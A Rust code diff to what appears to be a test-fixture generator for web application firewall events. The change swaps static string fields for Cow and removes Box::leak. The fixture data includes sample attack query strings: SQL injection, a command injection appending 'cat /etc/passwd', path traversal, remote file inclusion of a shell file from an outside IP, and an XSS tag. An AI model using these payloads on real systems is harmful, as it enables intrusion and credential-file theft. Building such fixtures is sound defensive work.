@@ -8,6 +8,7 @@
 use base64::Engine as _;
 use base64::engine::general_purpose::STANDARD;
 use serde_json::{Map, Value, json};
+use std::borrow::Cow;
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum EventSize {
@@ -37,8 +38,8 @@ struct Variant {
     extra_attack: Vec<(&'static str, &'static str)>,
     method: &'static str,
     host: &'static str,
-    path: &'static str,
-    query: &'static str,
+    path: Cow<'static, str>,
+    query: Cow<'static, str>,
     status: &'static str,
     request_headers: Vec<(String, String)>,
     response_headers: Vec<(String, String)>,
@@ -60,8 +61,8 @@ impl Variant {
             extra_attack: vec![],
             method: "GET",
             host,
-            path: "/",
-            query: "",
+            path: "/".into(),
+            query: "".into(),
             status: "200",
             request_headers: request_headers(host, size, &[]),
             response_headers: response_headers(size, &[]),
@@ -157,8 +158,8 @@ fn variants(size: EventSize) -> Vec<Variant> {
                 texts(&["alert", "alert", "deny"]),
             ],
             extra_attack: vec![("clientReputation", "ID=@@IP@@;WEBATCK=8;DOSATCK=3")],
-            path: "/catalog/item",
-            query: "id=1%27%20union%20select%20null,version()%3E%3F--&sort=price+asc",
+            path: "/catalog/item".into(),
+            query: "id=1%27%20union%20select%20null,version()%3E%3F--&sort=price+asc".into(),
             status: "403",
             geo: geo_de,
             sections: vec![(
@@ -185,7 +186,7 @@ fn variants(size: EventSize) -> Vec<Variant> {
                 texts(&["alert", "alert"]),
             ],
             method: "POST",
-            path: "/blog/comments",
+            path: "/blog/comments".into(),
             status: "200",
             request_headers: request_headers(
                 "www.example.com",
@@ -218,8 +219,8 @@ fn variants(size: EventSize) -> Vec<Variant> {
                 texts(&["alert", "deny"]),
             ],
             extra_attack: vec![("apiId", "api-4411"), ("apiKey", "key-77")],
-            path: "/v1/ping",
-            query: "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd",
+            path: "/v1/ping".into(),
+            query: "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd".into(),
             status: "403",
             geo: ["EU", "FR", "PARIS\u{2028}LA DÉFENSE", "IDF", "64501"],
             ..Variant::base(size, "api.example.com")
@@ -237,8 +238,8 @@ fn variants(size: EventSize) -> Vec<Variant> {
                 texts(&["REQUEST_FILENAME"]),
                 texts(&["monitor"]),
             ],
-            path: "/download/..%2f..%2fetc%2fpasswd%zz",
-            query: "name=a+b&dir=..%2Fetc",
+            path: "/download/..%2f..%2fetc%2fpasswd%zz".into(),
+            query: "name=a+b&dir=..%2Fetc".into(),
             status: "404",
             geo: geo_us,
             ..Variant::base(size, "files.example.com")
@@ -260,8 +261,8 @@ fn variants(size: EventSize) -> Vec<Variant> {
                 texts(&["ARGS:file", "", ""]),
                 texts(&["alert", "alert", "deny"]),
             ],
-            path: "/index.php",
-            query: "file=http%3A%2F%2F203.0.113.9%2Fshell.txt%3F",
+            path: "/index.php".into(),
+            query: "file=http%3A%2F%2F203.0.113.9%2Fshell.txt%3F".into(),
             status: "403",
             geo: geo_sg,
             ..Variant::base(size, "files.example.com")
@@ -279,8 +280,8 @@ fn variants(size: EventSize) -> Vec<Variant> {
                 texts(&["ARGS:x"]),
                 texts(&["alert"]),
             ],
-            path: "/search",
-            query: "x=%ff%fe%3Cscript%3E",
+            path: "/search".into(),
+            query: "x=%ff%fe%3Cscript%3E".into(),
             status: "400",
             request_headers: request_headers(
                 "www.example.com",
@@ -305,7 +306,7 @@ fn variants(size: EventSize) -> Vec<Variant> {
                 texts(&["REQUEST_HEADERS:User-Agent", ""]),
                 texts(&["deny", "deny"]),
             ],
-            path: "/products/",
+            path: "/products/".into(),
             status: "403",
             geo: geo_us,
             sections: vec![
@@ -331,8 +332,8 @@ fn variants(size: EventSize) -> Vec<Variant> {
                 texts(&["alert"]),
             ],
             method: "POST",
-            path: "/api/v2/login",
-            query: "redirect=%2Faccount%3Ftab%3Dorders",
+            path: "/api/v2/login".into(),
+            query: "redirect=%2Faccount%3Ftab%3Dorders".into(),
             status: "200",
             request_headers: request_headers(
                 "login.example.com",
@@ -371,7 +372,7 @@ fn variants(size: EventSize) -> Vec<Variant> {
             ],
             extra_attack: vec![("slowPostAction", "A"), ("slowPostRate", "12")],
             method: "POST",
-            path: "/api/v2/login",
+            path: "/api/v2/login".into(),
             status: "429",
             response_headers: response_headers(size, &[("Retry-After", "5")]),
             geo: geo_de,
@@ -390,7 +391,7 @@ fn variants(size: EventSize) -> Vec<Variant> {
                 texts(&["REQUEST_FILENAME"]),
                 texts(&["monitor"]),
             ],
-            path: "/admin",
+            path: "/admin".into(),
             status: "200",
             geo: geo_us,
             custom: Some(Custom::Object(vec![
@@ -584,18 +585,15 @@ fn large_variant(approx_bytes: usize) -> Variant {
             })
             .collect()
     };
-    let cookie: &'static str = Box::leak(filler("c").into_boxed_str());
-    let query: &'static str = Box::leak(format!("q={}", filler("q")).into_boxed_str());
-    variant.query = query;
+    let cookie = filler("c");
+    variant.query = format!("q={}", filler("q")).into();
     variant.rule_lists[4] = vec![filler("d").into_bytes(), filler("e").into_bytes()];
     for i in 0..3 {
         variant
             .request_headers
             .push((format!("X-Large-{i}"), filler("h")));
     }
-    variant
-        .request_headers
-        .push(("Cookie".into(), cookie.into()));
+    variant.request_headers.push(("Cookie".into(), cookie));
     variant
 }
 
@@ -669,8 +667,8 @@ fn render(v: &Variant) -> String {
         ("method", string(v.method)),
         ("host", string(v.host)),
         ("port", string("443")),
-        ("path", string(v.path)),
-        ("query", string(v.query)),
+        ("path", string(&v.path)),
+        ("query", string(&v.query)),
         (
             "requestHeaders",
             string(&encode_headers(&v.request_headers)),
@@ -753,7 +751,7 @@ fn render_decoded(v: &Variant) -> Value {
     let http = json!({
         "requestId": ID, "start": START, "protocol": "HTTP/1.1", "tls": "tls1.3",
         "method": v.method, "host": v.host, "port": "443",
-        "path": readable(v.path), "query": readable(v.query),
+        "path": readable(&v.path), "query": readable(&v.query),
         "requestHeaders": header_lines(&v.request_headers),
         "status": v.status, "bytes": "342",
         "responseHeaders": header_lines(&v.response_headers),
